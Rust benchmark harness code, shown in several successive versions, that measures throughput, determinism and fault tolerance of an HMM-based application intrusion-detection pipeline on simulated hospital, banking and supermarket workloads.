                    || alert.flag == Flag::OutOfContext)
            {
                connected = true;
            }
        }
        // CMarkov's collector sees raw names only.
        cmarkov_flag = cmarkov_flag.max(cmarkov_engine.verdict(&strip_trace(&labeled)));
    }
    (adprom_flag, cmarkov_flag, connected)
}

fn render(flag: Flag, connected: bool) -> String {
    match (flag, connected) {
        (Flag::Normal, _) => "undetected".to_string(),
        (f, true) => format!("detected ({f}) & connected to source"),
        (f, false) => format!("detected ({f})"),
    }
}
