//! Batched-detection throughput harness: events/sec for the serial
//! full-recompute scan (the baseline detection path) vs the parallel
//! batch pipeline in both scoring modes, written to `BENCH_detect.json`
//! at the workspace root. Run with:
//!
//! ```text
//! cargo run --release -p adprom-bench --bin bench_detect
//! ```
//!
//! Flags:
//!
//! * `--metrics-out <path>` — dump the full pipeline metrics snapshot
//!   (training, detection, batch, and sliding-scorer accounting) as JSON.
//! * `--smoke` — small workload and short measurement budget, for CI.

use adprom_analysis::analyze;
use adprom_core::{build_profile, BatchDetector, ConstructorConfig, DetectionEngine, ScoringMode};
use adprom_obs::Registry;
use adprom_trace::CallEvent;
use adprom_workloads::hospital;
use std::time::Instant;

/// Best-run throughput: repeats `run` until the measurement budget is
/// spent and reports events/sec of the fastest run (the least-noise
/// estimator on a shared machine).
fn throughput(
    events: usize,
    max_runs: usize,
    budget_secs: f64,
    run: &dyn Fn() -> usize,
) -> (f64, usize) {
    let alerts = run(); // warm-up (also primes allocator and caches)
    let mut best = f64::INFINITY;
    let budget = Instant::now();
    let mut runs = 0;
    while runs < max_runs && budget.elapsed().as_secs_f64() < budget_secs {
        let start = Instant::now();
        let got = run();
        let secs = start.elapsed().as_secs_f64();
        assert_eq!(got, alerts, "non-deterministic alert count");
        best = best.min(secs);
        runs += 1;
    }
    (events as f64 / best, alerts)
}

fn main() {
    let mut metrics_out: Option<String> = None;
    let mut smoke = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--metrics-out" => {
                metrics_out = Some(args.next().expect("--metrics-out requires a path"));
            }
            "--smoke" => smoke = true,
            other => {
                eprintln!("unknown argument: {other}");
                eprintln!("usage: bench_detect [--smoke] [--metrics-out <path>]");
                std::process::exit(2);
            }
        }
    }
    let (cases, max_iterations, max_runs, budget_secs) = if smoke {
        (12, 3, 2, 0.3)
    } else {
        (48, 6, 12, 1.5)
    };

    // The CA hospital application at a batch size that models a busy
    // monitoring interval: many independent sessions, window n = 15.
    let registry = Registry::new();
    let workload = hospital::workload(cases, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = max_iterations;
    config.registry = registry.clone();
    let (profile, _) = build_profile("App_hospital", &analysis, &traces, &config);

    let batch: Vec<Vec<CallEvent>> = traces;
    let n_traces = batch.len();
    let events: usize = batch.iter().map(Vec::len).sum();
    let threads = rayon::current_num_threads();

    let engine = DetectionEngine::new(&profile).with_registry(&registry);
    let (serial_eps, serial_alerts) = throughput(events, max_runs, budget_secs, &|| {
        batch.iter().map(|t| engine.scan(t).len()).sum::<usize>()
    });

    let exact = BatchDetector::new(&profile).with_registry(&registry);
    let (par_exact_eps, par_exact_alerts) = throughput(events, max_runs, budget_secs, &|| {
        exact
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    let incremental = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_mode(ScoringMode::Incremental);
    let (par_inc_eps, par_inc_alerts) = throughput(events, max_runs, budget_secs, &|| {
        incremental
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    // Determinism spot-checks, not just counts: exact mode must reproduce
    // the serial alerts verbatim; incremental must agree on the windows.
    let serial_reports: Vec<_> = batch.iter().map(|t| engine.scan(t)).collect();
    let exact_reports = exact.detect_batch(&batch);
    let exact_identical = serial_reports
        .iter()
        .zip(&exact_reports)
        .all(|(s, p)| s == &p.alerts);
    assert!(
        exact_identical,
        "parallel exact output diverged from serial"
    );
    assert_eq!(serial_alerts, par_exact_alerts);
    assert_eq!(serial_alerts, par_inc_alerts);

    let speedup_exact = par_exact_eps / serial_eps;
    let speedup_inc = par_inc_eps / serial_eps;

    println!(
        "== Batched detection throughput (window n = {}) ==",
        profile.window
    );
    println!("batch: {n_traces} traces, {events} events, {threads} worker thread(s)");
    println!("serial full-recompute     : {serial_eps:>12.0} events/sec");
    println!("parallel exact-windows    : {par_exact_eps:>12.0} events/sec  ({speedup_exact:.2}x)");
    println!("parallel incremental      : {par_inc_eps:>12.0} events/sec  ({speedup_inc:.2}x)");
    println!("exact output identical to serial: {exact_identical}");

    let snapshot = registry.snapshot();
    println!("\n== Pipeline metrics ==");
    println!(
        "windows scored {}  (normal {}, anomalous {}, data-leak {}, out-of-context {})",
        snapshot.counter("detect.windows_scored").unwrap_or(0),
        snapshot.counter("detect.flags.normal").unwrap_or(0),
        snapshot.counter("detect.flags.anomalous").unwrap_or(0),
        snapshot.counter("detect.flags.data_leak").unwrap_or(0),
        snapshot.counter("detect.flags.out_of_context").unwrap_or(0),
    );
    if let Some(h) = snapshot.histograms.get("batch.trace_ns") {
        println!(
            "per-trace latency: p50 {:.0}ns p90 {:.0}ns p99 {:.0}ns max {}ns ({} traces)",
            h.p50, h.p90, h.p99, h.max, h.count
        );
    }
    println!(
        "sliding scorer: {} pushes, {} re-anchors",
        snapshot.counter("sliding.pushes").unwrap_or(0),
        snapshot.counter("sliding.reanchors").unwrap_or(0),
    );

    let json = format!(
        "{{\n  \"workload\": \"hospital\",\n  \"traces\": {n_traces},\n  \
         \"events\": {events},\n  \"window\": {window},\n  \"threads\": {threads},\n  \
         \"alerts\": {serial_alerts},\n  \
         \"serial_exact_events_per_sec\": {serial_eps:.0},\n  \
         \"parallel_exact_events_per_sec\": {par_exact_eps:.0},\n  \
         \"parallel_incremental_events_per_sec\": {par_inc_eps:.0},\n  \
         \"speedup_parallel_exact\": {speedup_exact:.2},\n  \
         \"speedup_parallel_incremental\": {speedup_inc:.2},\n  \
         \"exact_output_identical_to_serial\": {exact_identical}\n}}\n",
        window = profile.window,
    );
    std::fs::write("BENCH_detect.json", &json).expect("write BENCH_detect.json");
    println!("\nwrote BENCH_detect.json");

    if let Some(path) = metrics_out {
        std::fs::write(&path, snapshot.to_json()).expect("write metrics snapshot");
        println!("wrote metrics snapshot to {path}");
    }
}
