//! Batched-detection throughput harness: events/sec for the serial
//! full-recompute scan (the baseline detection path) vs the sparse CSR
//! scoring kernel and the parallel batch pipeline in both scoring modes,
//! plus serial-vs-parallel Baum–Welch training wall-clock. Results are
//! appended to the `BENCH_detect.json` history (a JSON array, one entry
//! per run) at the workspace root. Run with:
//!
//! ```text
//! cargo run --release -p adprom-bench --bin bench_detect
//! ```
//!
//! Flags:
//!
//! * `--sparse` — score through the exact sparse CSR kernel (ε = 0, no
//!   beam); the profile is built with `flatten_epsilon = 1e-4` so the
//!   trained model decomposes sparsely, and the run *asserts* that alert
//!   counts and per-window flags match the dense kernel exactly.
//! * `--beam` — sparse kernel plus mass-threshold beam pruning of α
//!   (approximate scores, bounded error).
//! * `--metrics-out <path>` — dump the full pipeline metrics snapshot
//!   (training, detection, batch, kernel and sliding-scorer accounting).
//! * `--smoke` — small workload and short measurement budget, for CI.
//! * `--faults` — after the throughput runs, replay the batch under a
//!   deterministic fault plan (corrupt + truncated ingest, injected
//!   worker panics, a slow score) and *assert* that every non-quarantined
//!   trace gets the same verdict as a fault-free run over the same
//!   screened input.

use adprom_analysis::analyze;
use adprom_core::resilience::sites;
use adprom_core::{
    apply_ingest_faults, build_profile, init_from_pctm, trace_windows, Alert, BatchDetector,
    ConstructorConfig, DetectionEngine, FaultKind, FaultPlan, Flag, Health, HealthMonitor,
    KernelConfig, ScoringMode, TraceStatus, Trigger,
};
use adprom_hmm::{train, BeamConfig, Hmm, SparseConfig};
use adprom_obs::Registry;
use adprom_trace::{CallEvent, TraceValidator};
use adprom_workloads::hospital;
use std::time::Instant;

/// Best-run throughput: repeats `run` until the measurement budget is
/// spent and reports events/sec of the fastest run (the least-noise
/// estimator on a shared machine).
fn throughput(
    events: usize,
    max_runs: usize,
    budget_secs: f64,
    run: &dyn Fn() -> usize,
) -> (f64, usize) {
    let alerts = run(); // warm-up (also primes allocator and caches)
    let mut best = f64::INFINITY;
    let budget = Instant::now();
    let mut runs = 0;
    while runs < max_runs && budget.elapsed().as_secs_f64() < budget_secs {
        let start = Instant::now();
        let got = run();
        let secs = start.elapsed().as_secs_f64();
        assert_eq!(got, alerts, "non-deterministic alert count");
        best = best.min(secs);
        runs += 1;
    }
    (events as f64 / best, alerts)
}

/// Flag counts over a batch of per-trace alert lists, in severity order
/// (normal, anomalous, data-leak, out-of-context).
fn flag_partition(reports: &[Vec<Alert>]) -> [usize; 4] {
    let mut counts = [0usize; 4];
    for alert in reports.iter().flatten() {
        let idx = match alert.flag {
            Flag::Normal => 0,
            Flag::Anomalous => 1,
            Flag::DataLeak => 2,
            Flag::OutOfContext => 3,
        };
        counts[idx] += 1;
    }
    counts
}

/// Appends `entry` to the `BENCH_detect.json` history array, migrating
/// the legacy single-object format (the whole file was one run) by
/// wrapping it as the first element.
fn append_history(path: &str, entry: &str) {
    let history = match std::fs::read_to_string(path) {
        Ok(old) => {
            let old = old.trim();
            if let Some(stripped) = old.strip_prefix('[') {
                let inner = stripped
                    .strip_suffix(']')
                    .unwrap_or(stripped)
                    .trim()
                    .trim_end_matches(',');
                if inner.is_empty() {
                    format!("[\n{entry}\n]\n")
                } else {
                    format!("[\n{inner},\n{entry}\n]\n")
                }
            } else if old.starts_with('{') {
                format!("[\n{old},\n{entry}\n]\n")
            } else {
                format!("[\n{entry}\n]\n")
            }
        }
        Err(_) => format!("[\n{entry}\n]\n"),
    };
    std::fs::write(path, &history).expect("write BENCH_detect.json");
}

fn main() {
    let mut metrics_out: Option<String> = None;
    let mut smoke = false;
    let mut sparse = false;
    let mut beam = false;
    let mut faults = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--metrics-out" => {
                metrics_out = Some(args.next().expect("--metrics-out requires a path"));
            }
            "--smoke" => smoke = true,
            "--sparse" => sparse = true,
            "--beam" => beam = true,
            "--faults" => faults = true,
            other => {
                eprintln!("unknown argument: {other}");
                eprintln!(
                    "usage: bench_detect [--smoke] [--sparse] [--beam] [--faults] \
                     [--metrics-out <path>]"
                );
                std::process::exit(2);
            }
        }
    }
    let (cases, max_iterations, max_runs, budget_secs) = if smoke {
        (12, 3, 2, 0.3)
    } else {
        (48, 6, 12, 1.5)
    };
    let kernel_mode = if beam {
        "beam"
    } else if sparse {
        "sparse"
    } else {
        "dense"
    };
    let kernel_config = if beam {
        // Mass-threshold pruning only: states carrying < 1e-6 combined
        // scaled-α mass are dropped, so the score error (tracked by the
        // gap-bound gauge) stays far below the 1.5-nat threshold margin.
        KernelConfig::Beam {
            sparse: SparseConfig::default(),
            beam: BeamConfig {
                top_k: None,
                mass_epsilon: 1e-6,
            },
        }
    } else if sparse {
        KernelConfig::Sparse {
            sparse: SparseConfig::default(),
        }
    } else {
        KernelConfig::Dense
    };

    // The CA hospital application at a batch size that models a busy
    // monitoring interval: many independent sessions, window n = 15.
    let registry = Registry::new();
    let workload = hospital::workload(cases, 9);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = max_iterations;
    config.registry = registry.clone();
    if sparse || beam {
        // Collapse Baum–Welch's floor dust back to a bit-exact per-row
        // background so the CSR decomposition is sparse (and, at ε = 0,
        // exact) on the trained model.
        config.flatten_epsilon = 1e-4;
    }
    let (profile, _) = build_profile("App_hospital", &analysis, &traces, &config);

    let batch: Vec<Vec<CallEvent>> = traces;
    let n_traces = batch.len();
    let events: usize = batch.iter().map(Vec::len).sum();

    // Serial dense baseline: the paper's per-window full forward pass.
    let dense_engine = DetectionEngine::new(&profile).with_registry(&registry);
    let (serial_eps, serial_alerts) = throughput(events, max_runs, budget_secs, &|| {
        batch
            .iter()
            .map(|t| dense_engine.scan(t).len())
            .sum::<usize>()
    });

    // Serial kernel path (sparse CSR / beam), when one is selected.
    let kernel_engine = DetectionEngine::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config);
    let kernel_serial: Option<(f64, usize)> = (sparse || beam).then(|| {
        throughput(events, max_runs, budget_secs, &|| {
            batch
                .iter()
                .map(|t| kernel_engine.scan(t).len())
                .sum::<usize>()
        })
    });

    // Exactness gate (ε = 0, no beam): the sparse kernel must reproduce
    // the dense run's alerts window for window — counts, flags and the
    // flag partition. Beam runs report the comparison without asserting
    // (their scores are intentionally approximate).
    let kernel_flags_match_dense: Option<bool> = (sparse || beam).then(|| {
        let dense_reports: Vec<Vec<Alert>> = batch.iter().map(|t| dense_engine.scan(t)).collect();
        let kernel_reports: Vec<Vec<Alert>> = batch.iter().map(|t| kernel_engine.scan(t)).collect();
        let dense_flags: Vec<Flag> = dense_reports.iter().flatten().map(|a| a.flag).collect();
        let kernel_flags: Vec<Flag> = kernel_reports.iter().flatten().map(|a| a.flag).collect();
        let matches = dense_flags == kernel_flags
            && flag_partition(&dense_reports) == flag_partition(&kernel_reports);
        if sparse && !beam {
            assert!(
                matches,
                "sparse kernel flag partition diverged from dense: {:?} vs {:?}",
                flag_partition(&kernel_reports),
                flag_partition(&dense_reports),
            );
        }
        matches
    });

    let exact = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config);
    // Record the pool size actually in force, not an assumed core count.
    let threads = exact.threads();
    let (par_exact_eps, par_exact_alerts) = throughput(events, max_runs, budget_secs, &|| {
        exact
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    let incremental = BatchDetector::new(&profile)
        .with_registry(&registry)
        .with_kernel(kernel_config)
        .with_mode(ScoringMode::Incremental);
    let (par_inc_eps, par_inc_alerts) = throughput(events, max_runs, budget_secs, &|| {
        incremental
            .detect_batch(&batch)
            .iter()
            .map(|r| r.alerts.len())
            .sum::<usize>()
    });

    // Determinism spot-checks, not just counts: the parallel exact mode
    // must reproduce the same-kernel serial alerts verbatim; incremental
    // must agree on the alert counts.
    let ref_engine = if sparse || beam {
        &kernel_engine
    } else {
        &dense_engine
    };
    let serial_reports: Vec<_> = batch.iter().map(|t| ref_engine.scan(t)).collect();
    let exact_reports = exact.detect_batch(&batch);
    let exact_identical = serial_reports
        .iter()
        .zip(&exact_reports)
        .all(|(s, p)| s == &p.alerts);
    assert!(
        exact_identical,
        "parallel exact output diverged from serial"
    );
    assert_eq!(serial_alerts, par_exact_alerts);
    assert_eq!(serial_alerts, par_inc_alerts);

    let speedup_exact = par_exact_eps / serial_eps;
    let speedup_inc = par_inc_eps / serial_eps;

    // Baum–Welch E-step: serial vs rayon-parallel wall-clock from the same
    // initial model, and bit-identity of the trained parameters (the
    // per-trace statistics are folded in input order, so thread count must
    // not change a single bit of A, B or π).
    let windows_enc: Vec<Vec<usize>> = trace_windows(&batch, config.window)
        .iter()
        .map(|w| profile.alphabet.encode_seq(w))
        .collect();
    let csds_len = windows_enc.len() / 5;
    let (csds, train_set) = windows_enc.split_at(csds_len);
    let init = init_from_pctm(&analysis.pctm, &profile.alphabet, &config.init);
    let bw_runs = if smoke { 1 } else { 3 };
    let time_train = |parallel: bool| -> (f64, Hmm) {
        let mut train_config = config.train;
        train_config.parallel = parallel;
        let mut best = f64::INFINITY;
        let mut trained = init.hmm.clone();
        for _ in 0..bw_runs {
            let mut hmm = init.hmm.clone();
            let start = Instant::now();
            train(&mut hmm, train_set, csds, &train_config);
            best = best.min(start.elapsed().as_secs_f64());
            trained = hmm;
        }
        (best, trained)
    };
    let (bw_serial_secs, bw_serial_model) = time_train(false);
    let (bw_parallel_secs, bw_parallel_model) = time_train(true);
    let bw_bit_identical = bw_serial_model == bw_parallel_model;
    assert!(bw_bit_identical, "parallel Baum-Welch diverged from serial");
    let bw_speedup = bw_serial_secs / bw_parallel_secs;

    // Fault-injection gate: replay the batch under a deterministic fault
    // plan and require that resilience machinery never changes a verdict
    // on a trace it kept.
    let fault_fields = if faults {
        // Injected panics are expected; keep their backtraces out of the
        // bench output.
        let default_hook = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .is_some_and(|s| s.contains("fault-injected"));
            if !injected {
                default_hook(info);
            }
        }));

        let fault_registry = Registry::new();
        let health = HealthMonitor::with_registry(&fault_registry);
        let injector = FaultPlan::new(42)
            .inject(
                sites::INGEST_CORRUPT,
                FaultKind::CorruptEvent,
                Trigger::OnceForKeys([1u64].into()),
            )
            .inject(
                sites::INGEST_TRUNCATE,
                FaultKind::TruncateTrace,
                Trigger::OnceForKeys([2u64].into()),
            )
            .inject(
                sites::WORKER_PANIC,
                FaultKind::Panic,
                Trigger::OnceForKeys([0u64, 4].into()),
            )
            .inject(
                sites::SLOW_SCORE,
                FaultKind::SlowScore { millis: 2 },
                Trigger::OnceForKeys([3u64].into()),
            )
            .arm();

        let mut faulty = batch.clone();
        let injected_ingest = apply_ingest_faults(&injector, &mut faulty);
        let sessions: Vec<String> = (0..faulty.len()).map(|i| format!("conn-{i}")).collect();
        let screened = TraceValidator::new()
            .with_registry(&fault_registry)
            .screen(&sessions, &faulty);
        let quarantined = screened.quarantined.len();
        assert_eq!(quarantined, 1, "exactly the corrupt trace is quarantined");

        // Fault-free reference over the same screened input.
        let clean = BatchDetector::new(&profile)
            .with_kernel(kernel_config)
            .detect_batch(&screened.traces);
        let guarded = BatchDetector::new(&profile)
            .with_kernel(kernel_config)
            .with_registry(&fault_registry)
            .with_health(health.clone())
            .with_faults(&injector);
        let reports = guarded.detect_batch(&screened.traces);
        let recovered = reports
            .iter()
            .filter(|r| matches!(r.status, TraceStatus::Recovered(_)))
            .count();
        let verdicts_match = clean
            .iter()
            .zip(&reports)
            .all(|(c, f)| c.alerts == f.alerts && c.verdict == f.verdict);
        assert!(
            verdicts_match,
            "fault-injected run changed a kept trace's verdict"
        );
        assert_eq!(recovered as u64, injector.injected(sites::WORKER_PANIC));
        assert_eq!(health.state(), Health::Degraded);

        println!("== Fault injection ==");
        println!(
            "ingest faults applied: {injected_ingest} ({quarantined} corrupt quarantined, \
             truncated traces kept)"
        );
        println!(
            "worker panics injected: {}, recovered: {recovered}, verdicts match \
             fault-free run: {verdicts_match}, health: {}",
            injector.injected(sites::WORKER_PANIC),
            health.state()
        );
        format!(
            "    \"fault_injection\": true,\n    \
             \"fault_ingest_applied\": {injected_ingest},\n    \
             \"fault_quarantined\": {quarantined},\n    \
             \"fault_panics_recovered\": {recovered},\n    \
             \"fault_verdicts_match_clean\": {verdicts_match},\n"
        )
    } else {
        String::new()
    };

    println!(
        "== Batched detection throughput (window n = {}, kernel = {kernel_mode}) ==",
        profile.window
    );
    println!("batch: {n_traces} traces, {events} events, {threads} worker thread(s)");
    println!("serial dense full-recompute : {serial_eps:>12.0} events/sec");
    if let Some((kernel_eps, _)) = kernel_serial {
        println!(
            "serial {kernel_mode:<6} kernel       : {kernel_eps:>12.0} events/sec  ({:.2}x dense)",
            kernel_eps / serial_eps
        );
    }
    println!(
        "parallel exact-windows      : {par_exact_eps:>12.0} events/sec  ({speedup_exact:.2}x)"
    );
    println!("parallel incremental        : {par_inc_eps:>12.0} events/sec  ({speedup_inc:.2}x)");
    println!("exact output identical to serial: {exact_identical}");
    if let Some(matches) = kernel_flags_match_dense {
        println!("{kernel_mode} flags match dense: {matches}");
    }
    println!(
        "Baum-Welch ({} windows): serial {bw_serial_secs:.3}s, parallel {bw_parallel_secs:.3}s \
         ({bw_speedup:.2}x on {threads} thread(s)), bit-identical: {bw_bit_identical}",
        windows_enc.len()
    );

    let snapshot = registry.snapshot();
    println!("\n== Pipeline metrics ==");
    println!(
        "windows scored {}  (normal {}, anomalous {}, data-leak {}, out-of-context {})",
        snapshot.counter("detect.windows_scored").unwrap_or(0),
        snapshot.counter("detect.flags.normal").unwrap_or(0),
        snapshot.counter("detect.flags.anomalous").unwrap_or(0),
        snapshot.counter("detect.flags.data_leak").unwrap_or(0),
        snapshot.counter("detect.flags.out_of_context").unwrap_or(0),
    );
    println!(
        "flagged windows by kernel: dense {}, sparse {}, beam {}",
        snapshot.counter("detect.kernel.dense").unwrap_or(0),
        snapshot.counter("detect.kernel.sparse").unwrap_or(0),
        snapshot.counter("detect.kernel.beam").unwrap_or(0),
    );
    if beam {
        println!(
            "beam: {} windows pruned, worst gap bound {} micro-nats",
            snapshot.counter("beam.windows_pruned").unwrap_or(0),
            snapshot
                .gauges
                .get("beam.gap_bound_micronats_max")
                .copied()
                .unwrap_or(0),
        );
    }
    if let Some(h) = snapshot.histograms.get("batch.trace_ns") {
        println!(
            "per-trace latency: p50 {:.0}ns p90 {:.0}ns p99 {:.0}ns max {}ns ({} traces)",
            h.p50, h.p90, h.p99, h.max, h.count
        );
    }
    println!(
        "sliding scorer: {} pushes, {} re-anchors",
        snapshot.counter("sliding.pushes").unwrap_or(0),
        snapshot.counter("sliding.reanchors").unwrap_or(0),
    );

    let kernel_fields = kernel_serial
        .map(|(kernel_eps, _)| {
            format!(
                "    \"sparse_exact_events_per_sec\": {kernel_eps:.0},\n    \
                 \"speedup_sparse_exact\": {:.2},\n    \
                 \"sparse_flags_match_dense\": {},\n",
                kernel_eps / serial_eps,
                kernel_flags_match_dense.unwrap_or(false),
            )
        })
        .unwrap_or_default();
    let partition = flag_partition(&serial_reports);
    let entry = format!(
        "  {{\n    \"workload\": \"hospital\",\n    \"smoke\": {smoke},\n    \
         \"traces\": {n_traces},\n    \"events\": {events},\n    \
         \"window\": {window},\n    \"threads\": {threads},\n    \
         \"kernel\": \"{kernel_mode}\",\n    \"alerts\": {serial_alerts},\n    \
         \"flag_partition\": [{}, {}, {}, {}],\n    \
         \"serial_exact_events_per_sec\": {serial_eps:.0},\n{kernel_fields}{fault_fields}    \
         \"parallel_exact_events_per_sec\": {par_exact_eps:.0},\n    \
         \"parallel_incremental_events_per_sec\": {par_inc_eps:.0},\n    \
         \"speedup_parallel_exact\": {speedup_exact:.2},\n    \
         \"speedup_parallel_incremental\": {speedup_inc:.2},\n    \
         \"exact_output_identical_to_serial\": {exact_identical},\n    \
         \"bw_windows\": {bw_windows},\n    \
         \"bw_serial_secs\": {bw_serial_secs:.4},\n    \
         \"bw_parallel_secs\": {bw_parallel_secs:.4},\n    \
         \"bw_speedup_parallel\": {bw_speedup:.2},\n    \
         \"bw_parallel_bit_identical\": {bw_bit_identical}\n  }}",
        partition[0],
        partition[1],
        partition[2],
        partition[3],
        window = profile.window,
        bw_windows = windows_enc.len(),
    );
    append_history("BENCH_detect.json", &entry);
    println!("\nappended run to BENCH_detect.json");

    if let Some(path) = metrics_out {
        std::fs::write(&path, snapshot.to_json()).expect("write metrics snapshot");
        println!("wrote metrics snapshot to {path}");
    }
}
