//! Batched-detection throughput harness: events/sec for the serial
//! full-recompute scan (the baseline detection path) vs the sparse CSR
//! scoring kernel and the parallel batch pipeline in both scoring modes,
//! plus serial-vs-parallel Baum–Welch training wall-clock. Results are
//! appended to the `BENCH_detect.json` history (a JSON array, one entry
//! per run) at the workspace root. Run with:
//!
//! ```text
//! cargo run --release -p adprom-bench --bin bench_detect
//! ```
//!
//! Flags:
//!
//! * `--sparse` — score through the exact sparse CSR kernel (ε = 0, no
//!   beam); the profile is built with `flatten_epsilon = 1e-4` so the
//!   trained model decomposes sparsely, and the run *asserts* that alert
//!   counts and per-window flags match the dense kernel exactly.
//! * `--beam` — sparse kernel plus mass-threshold beam pruning of α
//!   (approximate scores, bounded error).
//! * `--simd` — SIMD-shaped scoring gate: the batched lane-major sparse
//!   kernel in f64 vs the f32 fast path with f64 guard-band
//!   verification, timed adjacently in paired rounds. The run *asserts*
//!   that the f32-verified per-window flags are identical to the pure
//!   f64 run's, and records the throughput ratio plus how many windows
//!   the guard band sent back to f64.
//! * `--metrics-out <path>` — dump the full pipeline metrics snapshot
//!   (training, detection, batch, kernel and sliding-scorer accounting).
//! * `--smoke` — small workload and short measurement budget, for CI.
//! * `--faults` — after the throughput runs, replay the batch under a
//!   deterministic fault plan (corrupt + truncated ingest, injected
//!   worker panics, a slow score) and *assert* that every non-quarantined
//!   trace gets the same verdict as a fault-free run over the same
//!   screened input.
//! * `--multiapp` — interleave 3 applications × 64 sessions each
//!   (banking, supermarket, hospital) into one stream through a
//!   `ProfileRegistry` + `MonitorRuntime` (incremental mode, sparse
//!   kernel), *assert* every session's verdict matches a per-app serial
//!   scan of its de-interleaved trace, report per-stage
//!   (`monitor.stage.*`) p50/p99 latencies, and record multiplexed
//!   throughput against the per-app batched incremental path over the
//!   same workload. With `--metrics-out <path>` the monitor registry
//!   snapshot is also written, to `<path stem>.multiapp.<ext>`.
//! * `--forensics` — replay the §V-C attack corpus (banking + hospital
//!   mutants plus the SQL-injection input) through a forensics-armed
//!   `MonitorRuntime`, *assert* every alarm audit record carries a
//!   `ForensicReport` with non-empty top-k attribution and that the
//!   reports are bit-identical at 1/4/8 worker threads, print ranked
//!   reports per attack family, dump the records to
//!   `FORENSICS_detect.jsonl`, and record the forensics-enabled
//!   benign-path throughput against the disabled runtime.
//! * `--service` — replay the 3-application interleaved corpus through
//!   the sharded monitoring service's framed wire path: encode the
//!   stream as `ADP1` frames, ingest through a `ShardedMonitor` at
//!   shard counts {1, 2, 4, 8}, *assert* per-session verdicts are
//!   bit-identical to an unsharded `MonitorRuntime` over the same
//!   stream, *assert* a mid-stream cross-shard profile hot-swap never
//!   splits a session's windows across epochs, and record aggregate
//!   events/sec per shard count. On this box shard replays are timed
//!   one at a time and the aggregate is the critical-path model
//!   (total events / slowest shard — the array's capacity when each
//!   shard owns a core), recorded alongside the serial wall number.
//! * `--overload` — replay the attack corpus plus the benign training
//!   sessions through an overload-controlled `MonitorRuntime` whose
//!   scoring budget is half its hard ingest bound (sustained 2× load),
//!   *assert* session recall of 1.0 against the unconstrained run,
//!   bit-identical tier histories at 1/4/8 threads, and a queue
//!   high-water at or under the bound; record the per-tier assignment
//!   and window partitions plus a DropNewest shed sub-run.

use adprom_analysis::analyze;
use adprom_attacks::{
    attack1_insert_similar_print, attack2_new_call_in_function, attack3_reuse_print,
    attack4_binary_patch,
};
use adprom_core::resilience::sites;
use adprom_core::{
    apply_ingest_faults, build_profile, encode_stream, init_from_pctm, partition_stream, shard_for,
    trace_windows, verdict_partition, Alert, BatchDetector, ConstructorConfig, DetectionEngine,
    FaultInjector, FaultKind, FaultPlan, Flag, ForensicsConfig, Health, HealthMonitor,
    KernelConfig, MonitorRuntime, OverloadConfig, Precision, ProfileRegistry, RuntimeConfig,
    ScoringMode, ScoringTier, SessionEnd, SessionReport, ShardedMonitor, ShedPolicy, TraceStatus,
    Trigger,
};
use adprom_hmm::{
    log_likelihood_sparse, score_windows_batch, train, BeamConfig, F32Kernel, Hmm, SparseConfig,
    SparseTransitions,
};
use adprom_obs::{AuditLog, AuditRecord, MemoryAuditSink, Registry};
use adprom_trace::{interleave, CallEvent, TraceValidator};
use adprom_workloads::{banking, hospital, supermarket, Workload};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Instant;

/// Best-run throughput: repeats `run` until the measurement budget is
/// spent and reports events/sec of the fastest run (the least-noise
/// estimator on a shared machine).
fn throughput(
    events: usize,
    max_runs: usize,
    budget_secs: f64,
    run: &dyn Fn() -> usize,
) -> (f64, usize) {
    let alerts = run(); // warm-up (also primes allocator and caches)
    let mut best = f64::INFINITY;
    let budget = Instant::now();
    let mut runs = 0;
    while runs < max_runs && budget.elapsed().as_secs_f64() < budget_secs {
        let start = Instant::now();
        let got = run();
        let secs = start.elapsed().as_secs_f64();
        assert_eq!(got, alerts, "non-deterministic alert count");
        best = best.min(secs);
        runs += 1;
    }
    (events as f64 / best, alerts)
}

/// Flag counts over a batch of per-trace alert lists, in severity order
/// (normal, anomalous, data-leak, out-of-context).
fn flag_partition(reports: &[Vec<Alert>]) -> [usize; 4] {
    let mut counts = [0usize; 4];
    for alert in reports.iter().flatten() {
        let idx = match alert.flag {
            Flag::Normal => 0,
            Flag::Anomalous => 1,
            Flag::DataLeak => 2,
            Flag::OutOfContext => 3,
        };
        counts[idx] += 1;
    }
    counts
}

/// Appends `entry` to the `BENCH_detect.json` history array, migrating
/// the legacy single-object format (the whole file was one run) by
/// wrapping it as the first element.
fn append_history(path: &str, entry: &str) {
    let history = match std::fs::read_to_string(path) {
        Ok(old) => {
            let old = old.trim();
            if let Some(stripped) = old.strip_prefix('[') {
                let inner = stripped
                    .strip_suffix(']')
                    .unwrap_or(stripped)
                    .trim()
                    .trim_end_matches(',');
                if inner.is_empty() {
                    format!("[\n{entry}\n]\n")
                } else {
                    format!("[\n{inner},\n{entry}\n]\n")
                }
            } else if old.starts_with('{') {
                format!("[\n{old},\n{entry}\n]\n")
            } else {
                format!("[\n{entry}\n]\n")
            }
        }
        Err(_) => format!("[\n{entry}\n]\n"),
    };
    std::fs::write(path, &history).expect("write BENCH_detect.json");
}

/// The §V-C attack corpus shared by the `--forensics` and `--overload`
/// gates: banking + hospital profiles, one attacked session per mutant
/// test case (plus the SQL-injection input on the unmodified banking
/// binary), and the apps' own training sessions as the benign load.
struct AttackCorpus {
    profiles: Arc<ProfileRegistry>,
    attack_sessions: Vec<(String, String, Vec<CallEvent>)>,
    benign_sessions: Vec<(String, String, Vec<CallEvent>)>,
}

fn build_attack_corpus(
    cases: usize,
    corpus_cases: usize,
    max_iterations: usize,
    kernel: Option<KernelConfig>,
) -> AttackCorpus {
